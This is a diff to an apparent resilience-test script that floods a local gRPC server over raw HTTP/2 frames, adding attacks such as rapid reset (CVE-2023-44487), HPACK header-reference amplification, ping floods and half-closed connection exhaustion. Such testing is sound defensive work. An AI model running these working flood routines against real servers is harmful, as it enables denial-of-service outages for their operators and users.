@@ -25,6 +25,7 @@ import subprocess
 import sys
 import tempfile
 import time
+from collections import deque
 from collections.abc import Callable, Iterator, Sequence
 from dataclasses import asdict, dataclass
 from pathlib import Path
@@ -36,7 +37,7 @@ ROOT = Path(__file__).parents[1]
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
-ACK, END_HEADERS = 1, 4
+ACK, END_STREAM, END_HEADERS = 1, 1, 4
 FRAME_BYTES = 16 * 1024
 CHECK_PATH = b"/robosc_api.v1.SynthesisService/Check"
 MODEL = "robot lamp {\n}\n"
@@ -140,9 +141,23 @@ def continuation_empty(port: int, deadline: Deadline) -> None:
     flooded(port, deadline, frame(HEADERS, 0, 1, call_headers()), frame(CONTINUATION, 0, 1) * 4096)
 
 
-def rapid_reset(port: int, deadline: Deadline) -> None:
-    """Calls that are begun and reset at once, on four connections (CVE-2023-44487)."""
-    headers = call_headers()
+def flooded_with_calls(
+    port: int,
+    deadline: Deadline,
+    call: Callable[[int], bytes],
+    *,
+    at_once: int = 100,
+    is_read: bool = True,
+) -> None:
+    """Make calls on four connections without waiting for answers, and connect again when one is closed.
+
+    Args:
+        port: Port of the server.
+        deadline: End of the attack.
+        call: Function that returns the frames of a call from the number of its stream.
+        at_once: Number of calls that are sent in one piece.
+        is_read: False to leave the answers where they are.
+    """
     while deadline:
         lines = []
         try:
@@ -151,20 +166,105 @@ def rapid_reset(port: int, deadline: Deadline) -> None:
                 lines[-1].settimeout(0.5)
             stream = 1
             while deadline and stream < 2**30:
-                some = b"".join(
-                    frame(HEADERS, END_HEADERS, number, headers) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
-                    for number in range(stream, stream + 200, 2)
-                )
+                some = b"".join(map(call, range(stream, stream + 2 * at_once, 2)))
                 for line in lines:
                     line.sendall(some)
                     with contextlib.suppress(BlockingIOError):
-                        line.recv(2**20, socket.MSG_DONTWAIT)
-                stream += 200
+                        if is_read and not line.recv(2**20, socket.MSG_DONTWAIT):
+                            raise ConnectionResetError
+                stream += 2 * at_once
         except OSError:
             time.sleep(0.001)
         finally:
             for line in lines:
                 line.close()
+
+
+def rapid_reset(port: int, deadline: Deadline) -> None:
+    """Calls that are begun and reset at once, on four connections (CVE-2023-44487)."""
+    headers, reset = call_headers(), struct.pack(">I", 8)
+    flooded_with_calls(
+        port,
+        deadline,
+        lambda stream: frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, reset),
+    )
+
+
+def reset_messages(port: int, deadline: Deadline) -> None:
+    """Calls that are reset in the middle of their request."""
+    headers, reset = call_headers(), struct.pack(">I", 8)
+    part = b"\0" + struct.pack(">I", 100_000) + bytes(500)
+    flooded_with_calls(
+        port,
+        deadline,
+        lambda stream: (
+            frame(HEADERS, END_HEADERS, stream, headers)
+            + frame(DATA, 0, stream, part)
+            + frame(RST_STREAM, 0, stream, reset)
+        ),
+    )
+
+
+def header_references(port: int, deadline: Deadline) -> None:
+    """Header blocks of 16,000 bytes, each of which refers to a field of 3.9 kB in the table of the connection."""
+    length = b"\x7f" + bytes([0x80 | (3773 & 0x7F), 3773 >> 7])
+    first = call_headers() + b"\x40" + bytes([1]) + b"x" + length + b"v" * 3900
+    others = call_headers() + b"\xbe" * 16_000
+    flooded_with_calls(
+        port,
+        deadline,
+        lambda stream: frame(HEADERS, END_HEADERS, stream, first if stream == 1 else others),
+        at_once=10,
+    )
+
+
+def unknown_methods(port: int, deadline: Deadline) -> None:
+    """Calls of methods that are not there."""
+    flooded_with_calls(
+        port,
+        deadline,
+        lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers(b"/any/%09d" % stream)),
+    )
+
+
+def wrong_deadlines(port: int, deadline: Deadline) -> None:
+    """Calls with deadlines that have passed, are too far away, or are none."""
+    texts = (b"0n", b"1n", b"99999999H", b"999999999999S", b"-1S", b"abc", b"")
+
+    def call(stream: int) -> bytes:
+        headers = call_headers() + literal(b"grpc-timeout", texts[stream // 2 % len(texts)])
+        return frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, bytes(5))
+
+    flooded_with_calls(port, deadline, call)
+
+
+def many_messages(port: int, deadline: Deadline) -> None:
+    """Calls that send three thousand requests where one is expected."""
+    headers = call_headers()
+    flooded_with_calls(
+        port,
+        deadline,
+        lambda stream: frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, bytes(5) * 3000),
+        at_once=10,
+    )
+
+
+def unread_pings(port: int, deadline: Deadline) -> None:
+    """Pings whose answers are not read, on four connections."""
+    flooded_with_calls(port, deadline, lambda stream: frame(PING, 0, 0, b"12345678"), at_once=1000, is_read=False)
+
+
+def half_closed(port: int, deadline: Deadline) -> None:
+    """Connections that begin twenty calls and close their own half."""
+    calls = b"".join(frame(HEADERS, END_HEADERS, stream, call_headers()) for stream in range(1, 41, 2))
+    lines: deque[socket.socket] = deque()
+    while deadline:
+        with contextlib.suppress(OSError):
+            lines.append(connected(port))
+            lines[-1].sendall(calls)
+            lines[-1].shutdown(socket.SHUT_WR)
+        if len(lines) > 2000:
+            lines.popleft().close()
 
 
 def idle(port: int, deadline: Deadline) -> None:
@@ -251,6 +351,13 @@ ATTACKS: dict[str, Callable[[int, Deadline], None]] = {
     "pings": pings,
     "settings": settings,
     "reconnecting": reconnecting,
+    "reset-messages": reset_messages,
+    "header-references": header_references,
+    "unknown-methods": unknown_methods,
+    "wrong-deadlines": wrong_deadlines,
+    "many-messages": many_messages,
+    "unread-pings": unread_pings,
+    "half-closed": half_closed,
 }
 
 
@@ -351,8 +458,8 @@ def door_settings(port: int, folder: Path) -> dict[str, Any]:
     listener["address"]["socket_address"] = {"address": "127.0.0.1", "port_value": port}
     (chain,) = listener["filter_chains"]
     del chain["transport_socket"]
-    (host,) = chain["filters"][0]["typed_config"]["route_config"]["virtual_hosts"]
-    host["routes"][0]["request_headers_to_add"][0]["header"]["value"] = "somebody"
+    (host,) = chain["filters"][-1]["typed_config"]["route_config"]["virtual_hosts"]
+    host["routes"][-1]["request_headers_to_add"][0]["header"]["value"] = "somebody"
     (cluster,) = settings["static_resources"]["clusters"]
     (endpoints,) = cluster["load_assignment"]["endpoints"]
     endpoints["lb_endpoints"][0]["endpoint"]["address"]["pipe"]["path"] = str(folder / "server.socket")
